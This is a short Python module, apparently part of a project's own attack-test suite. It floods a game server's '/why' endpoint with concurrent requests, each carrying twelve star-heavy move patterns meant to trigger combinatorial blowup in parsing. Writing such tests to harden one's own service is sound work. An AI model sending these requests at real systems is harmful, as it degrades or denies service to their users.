"""Patterns of `/why`: stars side by side can be divided in very many ways."""

from urllib.parse import quote

from attack.attacks.crowd import FRIEND, ME, many
from attack.stranger import Json, Stranger

PATTERN = "open ******+******!"
MOVES = 12  # as many as one request may name
AT_ONCE = 4


async def run(stranger: Stranger, _: Json) -> None:
    token = await stranger.identity()
    table = await stranger.open_table(token, "havana", ME, FRIEND)
    asked = "&".join([f"move={quote(PATTERN)}"] * MOVES)

    async def ask(_: int) -> None:
        await stranger.ask("GET", f"/api/tables/{table}/why?seat=0&{asked}", token)

    await many(AT_ONCE, ask)
